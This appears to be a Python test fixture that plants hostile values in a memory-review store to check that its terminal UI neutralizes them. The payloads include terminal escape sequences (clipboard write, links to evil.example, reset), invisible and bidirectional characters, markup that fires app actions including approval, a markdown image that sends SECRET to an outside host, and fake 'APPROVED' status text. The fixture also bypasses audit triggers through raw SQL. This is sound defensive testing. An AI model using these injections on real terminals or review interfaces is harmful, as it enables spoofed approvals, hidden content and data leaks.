"""A store in which every field is hostile, as somebody with a hand on the file could make it (cases/hostile.md).

Entries go past the border but through the store's own code, so that hashes, commitments and blocks agree with them;
what no entry carries (flags, actions, surfaces) is written by SQL with the append-only triggers taken away.
"""

from __future__ import annotations

import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any, Final

from store import queries, review
from store.context import Context
from store.desk import open_desk
from store.engine import Store
from store.facts import Actor, Outcome
from store.intake import take
from store.location import Location
from store.notes import note_seen
from store.raw import Raw

ESCAPES: Final = (
    "\x1b]52;c;zxzpba==\x07",
    "\x1b]8;;http://evil.example/\x1b\\",
    "\x1b]0;t\x07",
    "\x9b31m",
    "\x9d0;t\x9c",
    "\x1b[99;99h",
    "\x1bc",
)
"""V01 to V06 and D113, in lower case, because a key must be: OSC 52, OSC 8, OSC 0, C1 CSI and OSC, a move, a reset."""
CONTROLS: Final = "\rok\x00\x08\x0b\x7f\x85"
UNSEEN: Final = "\u202e\u2066\u200b\u2060\ufeff\u00ad\u2028\U000e0041\u3164"
MARKUP: Final = "[@click=app.quit]x[/][/nope][bold[red]x[/blue]\\[x]"
MARKS: Final = (
    "[/",
    "[/etc/hosts]",
    "[type=x, v={'a[0]'}]",
    "[bold red]x[/]",
    "[link=https://e.example]d[/link]",
    "[@click=app.quit]ok[/]",
    "[@click=app.do_queue_approve]ok[/]",
    "![](http://e/?d=SECRET) [a](javascript:x)",
)
"""D111, D112, V11, V12, V14."""
IMITATION: Final = "│ Status: APPROVED │\n ▌ a Approve x Reject\n────────────────────"
FIELDS: Final = (
    "key", "alias", "path", "content", "agent", "session", "ref", "evidence", "branch", "flag", "detail",
    "actor", "surface", "reason", "action", "scope", "old",
)  # fmt: skip
"""What is planted, by its mark: ``evil("key")`` begins with ``zkey``."""


def evil(field: str) -> str:
    """One hostile value: its mark, everything that could move a terminal, hide, or be read as markup. In lower case."""
    return f"z{field}{''.join(ESCAPES)}{MARKUP[:17]}{CONTROLS}{UNSEEN}"


def said(content: str, **more: Any) -> Raw:
    """An entry as no border would let it pass."""
    fields: dict[str, Any] = {
        "aliases": (evil("alias"),),
        "paths": (evil("path"),),
        "source_agent": evil("agent"),
        "session_id": evil("session"),
        "source_ref": "~/" + evil("ref"),
        "evidence": evil("evidence"),
        "source": "user_feedback",
        "confidence": 0.8,
    }
    return Raw(content=content, redaction_version=1, **{**fields, **more})


def plant(location: Location, scope: str) -> None:
    """Make the store: a memory with a history, an update of it, an addition, a removal, and something elsewhere."""
    store = open_desk(location)
    bob, somebody = Actor("bob", evil("surface")), Actor(evil("actor"), evil("surface"))
    try:
        first = _taken(store, scope, said(evil("old"), key=evil("key"), kind="preference"))
        memory_id = review.approve(store, _seen(store, first), by=bob).memory_ids[0]
        second = _taken(store, scope, said(evil("content") + MARKUP + IMITATION, key=evil("key")))
        review.approve(store, _seen(store, second), by=somebody)
        refused = _taken(store, scope, said(evil("refused")))
        review.reject(store, _seen(store, refused), by=bob, reason=evil("reason"))
        _taken(store, scope, said(evil("content") + "\n" + "\n".join(MARKS) + "\n" + IMITATION, key=evil("key")))
        for mark in MARKS:
            _taken(store, scope, said(f"{mark} {evil('content')}", kind="decision"))
        _taken(store, scope, said(evil("content") + " gone", op="remove", target=memory_id))
        _taken(store, evil("scope"), said(evil("content") + " elsewhere"))
    finally:
        store.close()
    note_seen(location, evil("agent"), "initialize", version=evil("version"))
    assert location.path is not None
    _by_sql(location.path)


def _by_sql(path: Path) -> None:
    with closing(sqlite3.connect(path)) as raw, raw:
        for (name,) in raw.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            if "search" not in name:
                raw.execute(f"DROP TRIGGER {name}")
        flags = json.dumps([{"code": code, "detail": evil("detail")} for code in ("conflict", evil("flag"), "hidden")])
        raw.execute("UPDATE proposal SET flags = ? WHERE status = 'pending'", (flags,))
        # Every text counts as one that was decided against before, so that who did and why is shown with it.
        raw.execute(
            "INSERT OR IGNORE INTO tombstone (tenant_id, fingerprint, operation_id, scope, cause, refusals) "
            "SELECT p.tenant_id, p.fingerprint, o.id, p.scope, 'rejected', 1 FROM proposal p, operation o "
            "WHERE p.status = 'pending' AND o.seq = (SELECT max(seq) FROM operation)"
        )
        raw.execute("UPDATE operation SET reason = ?", (evil("reason"),))
        raw.execute("UPDATE version SET action = ? WHERE revision = 2", (evil("action"),))
        raw.execute("UPDATE scope SET label = ?", (evil("label"),))
        raw.execute("UPDATE proposal SET mentions = 3 WHERE status = 'pending'")


def _taken(store: Store, scope: str, raw: Raw) -> Outcome:
    context = Context(scope=scope, label=evil("label"), branch=evil("branch"), commit="c\x1b[3;4h" + evil("commit"))
    with store.write() as connection:
        (outcome,) = take(store, connection, [raw], context=context)
    assert outcome.status in ("pending", "draft"), outcome
    return outcome


def _seen(store: Store, outcome: Outcome) -> Any:
    assert outcome.id is not None
    return queries.queue_rows(store, [outcome.id])[0].seen()


# ---- what came out

_SEQUENCE: Final = re.compile(
    rb"\x1b\[[0-9;:<=>?]*[ -/]*[@-~]|\x1bP[^\x1b]*\x1b\\|\x1b[78=>]|\x1b\([B0]|\x1b\]22;[a-z-]+\x07"
)
"""What Textual and the console themselves write: CSI, one DCS, and of OSC nothing but the shape of the pointer."""
_LIVE: Final = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u00ad\U000e0000-\U000e0fff]"
)


def live(written: bytes) -> list[str]:
    """Everything in the bytes written to a terminal that moves, hides or acts and is not of the toolkit's own making.

    Of the toolkit's own CSI only those count as ours that hold none of the planted arguments.
    """
    found = [match[0] for match in _SEQUENCE.finditer(written)]
    planted = [str(one) for one in found if one in (b"\x1b[99;99h", b"\x1b[3;4h")]
    rest = _SEQUENCE.sub(b"", written).decode("utf-8", "surrogateescape")
    around = [rest[max(0, match.start() - 20) : match.end() + 20] for match in _LIVE.finditer(rest)]
    return planted + [repr(one) for one in around]
